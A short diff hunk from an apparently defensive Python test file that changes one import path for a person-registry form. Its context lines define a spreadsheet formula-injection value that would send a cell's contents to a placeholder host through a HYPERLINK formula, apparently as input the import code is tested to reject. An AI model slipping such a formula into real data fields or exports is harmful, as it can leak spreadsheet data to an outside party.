@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from nastavnik.registry.forms import PersonForm
+from nastavnik.registry.forms.people import PersonForm
 from nastavnik.registry.people_import import FieldProblem, parse_full_name
 
 FORMULA_NAME = '=HYPERLINK("http://example.com/?"&B2,"Открыть")'
